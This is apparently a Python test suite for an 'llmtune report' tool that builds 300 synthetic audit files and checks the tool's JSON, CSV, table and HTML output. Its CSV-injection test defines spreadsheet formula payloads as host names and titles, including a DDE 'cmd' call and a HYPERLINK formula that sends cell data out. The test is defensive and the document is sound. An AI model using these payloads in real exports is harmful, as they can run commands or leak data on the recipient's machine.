#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""
llmtune report on a generated fleet: ~300 audit files made from real `llmtune audit --json`
outputs of the fixture roots, with varied host names and results. The report's JSON, CSV and
table are checked against an aggregation computed here independently; the HTML is checked for
self-containment and its hosts x rules grid, and (test "report-html") rendered by headless
Chromium, whose DOM must hold the grid.

    test_report.py --llmtune BIN --roots DIR [--html-only] [--screenshot PNG]

Without Chromium the HTML rendering test skips (exit 77), or fails when LLMTUNE_REQUIRE_ALL=1.
"""
import argparse
import copy
import csv
import html.parser
import io
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'lib'))
from checklib import check, failures  # noqa: E402  (tests/lib/checklib.py)

ROOTS = ['dgx-a100', 'hgx-h100', 'ws-4090', 'vm-nogpu']
NHOSTS = 300
SKIP = 77


def run(cmd, **kw):
    env = dict(os.environ, NO_COLOR='1', LC_ALL='C')
    return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, timeout=120, **kw)


def base_audits(llmtune, roots):
    out = {}
    for name in ROOTS:
        r = run([llmtune, '--root', os.path.join(roots, name), 'audit', '--json'])
        if r.returncode not in (0, 2):
            sys.exit('audit of %s failed (%d): %s' % (name, r.returncode, r.stderr.decode()))
        doc = json.loads(r.stdout)
        if not check(doc.get('host') == name, 'audit --json of %s has host %r, expected %r (ROOT/etc/hostname)' % (
                name, doc.get('host'), name)):
            doc['host'] = name
        out[name] = doc
    return out


def generate(bases, top):
    """Write NHOSTS audit files under top; return {host: {rule: status}} and the file list."""
    rnd = random.Random(7)
    truth, files = {}, []
    for i in range(NHOSTS):
        kind = ROOTS[i % len(ROOTS)]
        doc = copy.deepcopy(bases[kind])
        host = '%s-node-%d' % (kind.split('-')[0], i + 1)   # natural order: node-2 before node-10
        # Drift: a few hosts of a kind get fixed, a few break, a few cannot evaluate a rule.
        if i % 5 == 0:
            for r in doc['results']:
                if r['status'] == 'fail':
                    r['status'] = 'pass'
        if i % 7 == 3:
            passing = [r for r in doc['results'] if r['status'] == 'pass']
            for r in rnd.sample(passing, min(2, len(passing))):
                r['status'] = 'fail'
        if i % 29 == 11:
            r = rnd.choice(doc['results'])
            r['status'] = 'error'
            r['reason'] = 'unreadable: ' + host
        if i % 43 == 5:   # an older audit that ran fewer rules: missing cells
            doc['results'] = doc['results'][:-3]
        doc['summary'] = {k: sum(1 for r in doc['results'] if r['status'] == s)
                          for k, s in (('pass', 'pass'), ('fail', 'fail'), ('na', 'n/a'), ('error', 'error'))}
        if i % 50 == 17:
            # No "host" key: the file name (without .json) names the host.
            del doc['host']
            path = os.path.join(top, 'flat', host + '.json')
        else:
            doc['host'] = host
            # Ansible fetch layout: DEST/INVENTORY_HOSTNAME/var/tmp/llmtune-audit.json
            path = os.path.join(top, 'fetched', host, 'var', 'tmp', 'llmtune-audit.json')
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as f:
            json.dump(doc, f, indent=1 if i % 2 else None)
        files.append(path)
        truth[host] = {r['rule']: r['status'] for r in doc['results']}
    return truth, files


def expected(truth):
    rules = {}
    for host, res in truth.items():
        for rule, st in res.items():
            rules.setdefault(rule, {'pass': 0, 'fail': 0, 'n/a': 0, 'error': 0, 'fail_hosts': set(), 'error_hosts': set()})
            rules[rule][st] += 1
            if st == 'fail':
                rules[rule]['fail_hosts'].add(host)
            if st == 'error':
                rules[rule]['error_hosts'].add(host)
    groups = {}
    for host, res in truth.items():
        key = frozenset((r, s) for r, s in res.items() if s in ('fail', 'error'))
        groups.setdefault(key, set()).add(host)
    return rules, groups


def check_json(llmtune, files, truth):
    r = run([llmtune, 'report', '--json'] + files)
    if not check(r.returncode == 0, 'report --json exited %d: %s' % (r.returncode, r.stderr.decode())):
        return None
    rep = json.loads(r.stdout)
    rules, groups = expected(truth)
    check(rep['hosts_total'] == NHOSTS, 'hosts_total %s, expected %d' % (rep['hosts_total'], NHOSTS))
    with_findings = sum(1 for res in truth.values() if any(s in ('fail', 'error') for s in res.values()))
    check(rep['hosts_with_findings'] == with_findings,
          'hosts_with_findings %s, expected %d' % (rep['hosts_with_findings'], with_findings))
    check(set(x['rule'] for x in rep['rules']) == set(rules), 'rule set differs')
    prev = None
    for x in rep['rules']:
        want = rules.get(x['rule'])
        if not want:
            continue
        for k, wk in (('pass', 'pass'), ('fail', 'fail'), ('na', 'n/a'), ('error', 'error')):
            check(x['hosts'][k] == want[wk], 'rule %s: %s on %d hosts, expected %d' % (x['rule'], k, x['hosts'][k], want[wk]))
        check(x['hosts']['missing'] == NHOSTS - sum(want[s] for s in ('pass', 'fail', 'n/a', 'error')),
              'rule %s: missing count wrong' % x['rule'])
        check(set(x['failing_hosts']) == want['fail_hosts'], 'rule %s: failing hosts differ' % x['rule'])
        check(set(x['error_hosts']) == want['error_hosts'], 'rule %s: error hosts differ' % x['rule'])
        n = x['hosts']['fail'] + x['hosts']['error']
        check(prev is None or prev >= n, 'rules not ordered by failing hosts (%s)' % x['rule'])
        prev = n
    got_groups = {frozenset((f['rule'], f['status']) for f in g['findings']): set(g['hosts']) for g in rep['groups']}
    check(got_groups == groups, 'groups differ: %d reported, %d expected' % (len(got_groups), len(groups)))
    sizes = [len(g['hosts']) for g in rep['groups']]
    check(sizes == sorted(sizes, reverse=True), 'groups not ordered largest first')
    hosts = [h['host'] for h in rep['hosts']]
    check(hosts[:3] == ['dgx-node-1', 'dgx-node-5', 'dgx-node-9'], 'hosts not in natural order: %s' % hosts[:3])
    for h in rep['hosts']:
        check(h['results'] == truth[h['host']], 'host %s: per-rule results differ' % h['host'])
        check(0 < h['group'] <= len(rep['groups']) and h['host'] in rep['groups'][h['group'] - 1]['hosts'],
              'host %s: group %s does not list it' % (h['host'], h['group']))
    check(any(h['file'].endswith('/flat/%s.json' % h['host']) for h in rep['hosts']),
          'no host named after its file (fallback without "host")')
    return rep


def check_csv_table(llmtune, files, rep):
    r = run([llmtune, 'report', '--csv'] + files)
    check(r.returncode == 0, 'report --csv exited %d' % r.returncode)
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline='')))
    check(len(rows) == len(rep['rules']), 'CSV has %d rule rows, expected %d' % (len(rows), len(rep['rules'])))
    for row, x in zip(rows, rep['rules']):
        check(row['rule'] == x['rule'] and int(row['fail']) == x['hosts']['fail'] and
              int(row['error']) == x['hosts']['error'] and row['failing_hosts'].split() == x['failing_hosts'],
              'CSV row for %s differs from the JSON' % row['rule'])
    r = run([llmtune, 'report', '--csv', '--by-host'] + files)
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline='')))
    check(len(rows) == NHOSTS, 'CSV --by-host has %d rows' % len(rows))
    byname = {h['host']: h for h in rep['hosts']}
    for row in rows:
        h = byname.get(row['host'])
        if check(h is not None, 'CSV --by-host: unknown host %s' % row['host']):
            check(int(row['group']) == h['group'] and int(row['fail']) == h['summary']['fail'],
                  'CSV --by-host row for %s differs from the JSON' % row['host'])
    r = run([llmtune, 'report'] + files)
    out = r.stdout.decode()
    check(r.returncode == 0, 'report exited %d' % r.returncode)
    first = out.splitlines()[0] if out else ''
    check(first.startswith('%d hosts, %d rules: %d with findings' % (NHOSTS, len(rep['rules']), rep['hosts_with_findings'])),
          'table summary line: %r' % first)
    top = rep['rules'][0]
    line = next((l for l in out.splitlines() if l.startswith(top['rule'] + ' ')), '')
    check(('%5d  %5d' % (top['hosts']['fail'], top['hosts']['error'])) in line, 'table row of %s: %r' % (top['rule'], line))
    more = '+%d more' % (top['hosts']['fail'] + top['hosts']['error'] - 6)
    check(more in out.split('\nHost groups')[0], 'table row of %s not truncated to 6 hosts (%s)' % (top['rule'], more))
    check('#%d  ' % len(rep['groups']) in out, 'table lacks the last group')


def check_errors(llmtune, top, files):
    bad = os.path.join(top, 'bad.json')
    for content, what in (('{"format": 1, "results": [', 'truncated'), ('[1, 2]', 'not an llmtune audit'),
                          ('{"format": 2, "results": []}', 'format 1'),
                          ('{"format": 1, "results": [{"rule": "x", "status": "maybe"}]}', 'unknown status'),
                          ('\x00\x01garbage', 'not JSON')):
        with open(bad, 'w') as f:
            f.write(content)
        r = run([llmtune, 'report', files[0], bad])
        err = r.stderr.decode()
        check(r.returncode == 1 and bad in err and what in err, 'bad file (%s): exit %d, stderr %r' % (what, r.returncode, err))
        r = run([llmtune, 'report', '--keep-going', '--json', files[0], bad])
        check(r.returncode == 0 and 'skipped ' + bad in r.stderr.decode() and json.loads(r.stdout)['hosts_total'] == 1,
              '--keep-going with a bad file: exit %d' % r.returncode)
    dup = os.path.join(top, 'dup.json')
    shutil.copy(files[1], dup)
    r = run([llmtune, 'report', files[1], dup])
    check(r.returncode == 1 and 'one audit per host' in r.stderr.decode(), 'duplicate host: exit %d' % r.returncode)
    r = run([llmtune, 'report', os.path.join(top, 'does-not-exist.json')])
    check(r.returncode == 1 and 'No such file' in r.stderr.decode(), 'missing file: exit %d' % r.returncode)
    r = run([llmtune, 'report'])
    check(r.returncode == 1, 'no files: exit %d' % r.returncode)


FORMULA_HOSTS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(A1:A2)']


def check_csv_injection(llmtune, top, bases):
    """OWASP CSV injection: every cell that starts with =, +, - or @ is written with a leading ',
    so a spreadsheet shows it as text; the rest of the cell is unchanged. (Tab and CR, the rule's
    other two, never reach a cell: the report turns control characters in names into '?'.)"""
    d = os.path.join(top, 'formula')
    os.makedirs(d)
    files = []
    for i, host in enumerate(FORMULA_HOSTS):
        doc = copy.deepcopy(bases['vm-nogpu'])
        doc['host'] = host
        doc['results'][0]['status'] = 'fail'
        doc['results'][0]['title'] = '=HYPERLINK("http://x.invalid/?"&A1)'
        files.append(os.path.join(d, '@%d.json' % i))
        with open(files[-1], 'w') as f:
            json.dump(doc, f)
    rule = bases['vm-nogpu']['results'][0]['rule']
    for extra in ([], ['--by-host']):
        r = run([llmtune, 'report', '--csv'] + extra + files)
        if not check(r.returncode == 0, 'report --csv %s on formula hosts exited %d: %s' % (extra, r.returncode, r.stderr.decode())):
            continue
        rows = list(csv.reader(io.StringIO(r.stdout.decode(), newline='')))
        bad = [c for row in rows[1:] for c in row if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
        check(not bad, 'report --csv %s: cells that start a formula: %r' % (extra, bad[:5]))
        cells = set(c for row in rows[1:] for c in row)
        if extra:
            check(all("'" + h in cells for h in FORMULA_HOSTS), "--by-host: host cells not written as '+host: %r" % sorted(cells))
            check("'" + files[0] in cells or files[0] in cells, '--by-host: file cell changed: %r' % sorted(cells))
        else:
            row = next((x for x in rows if x[0] == rule), None)
            if check(row is not None, 'report --csv: no row for %s' % rule):
                check(row[1] == '\'=HYPERLINK("http://x.invalid/?"&A1)', 'title cell %r' % row[1])
                check(row[9].startswith("'") and len(row[9]) > 1, 'failing_hosts cell %r' % row[9])


class GridParser(html.parser.HTMLParser):
    """Counts the grid's header rules, body rows and cells, and any external reference."""

    def __init__(self):
        super().__init__()
        self.in_grid = self.in_head = self.in_body = False
        self.rules, self.rows, self.cells, self.classes = [], [], [], {}
        self.external = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        for k in ('src', 'href'):
            if a.get(k):
                self.external.append('%s %s=%s' % (tag, k, a[k]))
        if tag in ('link', 'script', 'img', 'iframe', 'object', 'embed'):
            self.external.append(tag)
        if tag == 'table' and a.get('id') == 'grid':
            self.in_grid = True
        if not self.in_grid:
            return
        if tag == 'thead':
            self.in_head = True
        elif tag == 'tbody':
            self.in_body = True
        elif tag == 'th' and self.in_head and 'rule' in (a.get('class') or '').split():
            self.rules.append(a.get('data-rule'))
        elif tag == 'tr' and self.in_body:
            self.rows.append(a.get('data-host'))
            self.cells.append(0)
        elif tag == 'td' and self.in_body and 'cell' in (a.get('class') or '').split():
            self.cells[-1] += 1
            for c in a['class'].split():
                self.classes[c] = self.classes.get(c, 0) + 1

    def handle_endtag(self, tag):
        if tag == 'table':
            self.in_grid = False
        elif tag == 'thead':
            self.in_head = False
        elif tag == 'tbody':
            self.in_body = False


def check_grid(text, rep, what):
    p = GridParser()
    p.feed(text)
    check(not p.external, '%s: external references: %s' % (what, p.external[:5]))
    check(p.rules == [x['rule'] for x in rep['rules']], '%s: grid has %d rule columns, expected %d' % (
        what, len(p.rules), len(rep['rules'])))
    check(sorted(p.rows) == sorted(h['host'] for h in rep['hosts']), '%s: grid has %d host rows, expected %d' % (
        what, len(p.rows), len(rep['hosts'])))
    check(p.cells and all(n == len(rep['rules']) for n in p.cells), '%s: rows do not all have one cell per rule' % what)
    want = {'fail': sum(x['hosts']['fail'] for x in rep['rules']), 'error': sum(x['hosts']['error'] for x in rep['rules']),
            'missing': sum(x['hosts']['missing'] for x in rep['rules'])}
    for k, n in want.items():
        check(p.classes.get(k, 0) == n, '%s: %d cells of class %s, expected %d' % (what, p.classes.get(k, 0), k, n))
    return p


def find_chromium():
    for name in ('chromium', 'chromium-browser', 'google-chrome', 'headless_shell'):
        path = shutil.which(name)
        if path:
            return path
    return None


def check_chromium(page, rep, top, screenshot):
    chrome = find_chromium()
    if not chrome:
        msg = 'chromium not found (install it: packaging/install-deps.sh)'
        if os.environ.get('LLMTUNE_REQUIRE_ALL') == '1':
            failures.append(msg + ', and LLMTUNE_REQUIRE_ALL=1')
            return
        print('SKIP: ' + msg)
        sys.exit(SKIP)
    profile = os.path.join(top, 'chrome-profile')
    base = [chrome, '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run',
            '--user-data-dir=' + profile, '--allow-file-access-from-files']
    env = dict(os.environ, HOME=top, XDG_CONFIG_HOME=top, XDG_CACHE_HOME=top)
    r = subprocess.run(base + ['--dump-dom', 'file://' + page], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       env=env, timeout=120)
    dom = r.stdout.decode('utf-8', 'replace')
    if not check(r.returncode == 0 and '<table id="grid"' in dom,
                 'chromium --dump-dom: exit %d, no grid in the DOM; stderr: %s' % (r.returncode, r.stderr.decode()[-2000:])):
        return
    check_grid(dom, rep, 'chromium DOM')
    png = screenshot or os.path.join(top, 'report.png')
    r = subprocess.run(base + ['--window-size=1400,1000', '--hide-scrollbars', '--screenshot=' + png, 'file://' + page],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, timeout=120)
    ok = r.returncode == 0 and os.path.exists(png)
    if check(ok, 'chromium --screenshot: exit %d' % r.returncode):
        with open(png, 'rb') as f:
            check(f.read(8) == b'\x89PNG\r\n\x1a\n', 'screenshot is not a PNG')
        print('screenshot: %s (%d bytes)' % (png, os.path.getsize(png)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--llmtune', required=True)
    ap.add_argument('--roots', required=True)
    ap.add_argument('--html-only', action='store_true', help='only the HTML page and its Chromium rendering')
    ap.add_argument('--screenshot', help='keep the Chromium screenshot here')
    args = ap.parse_args()
    top = tempfile.mkdtemp(prefix='llmtune-report-')
    try:
        bases = base_audits(args.llmtune, args.roots)
        truth, files = generate(bases, top)
        rep = check_json(args.llmtune, files, truth)
        if rep is None:
            raise SystemExit
        page = os.path.join(top, 'report.html')
        r = run([args.llmtune, 'report', '--html', '-o', page] + files)
        check(r.returncode == 0 and os.path.exists(page), 'report --html -o exited %d' % r.returncode)
        with open(page, encoding='utf-8') as f:
            text = f.read()
        check(text.startswith('<!DOCTYPE html>') and '<style>' in text, 'HTML page lacks doctype or inline style')
        check_grid(text, rep, 'HTML')
        if args.html_only:
            check_chromium(page, rep, top, args.screenshot)
        else:
            check_csv_table(args.llmtune, files, rep)
            check_errors(args.llmtune, top, files)
            check_csv_injection(args.llmtune, top, bases)
    finally:
        shutil.rmtree(top, ignore_errors=True)
    for p in failures:
        print('FAIL: ' + p)
    if not failures:
        print('ok: %d generated audits' % NHOSTS)
    return 1 if failures else 0


if __name__ == '__main__':
    sys.exit(main())
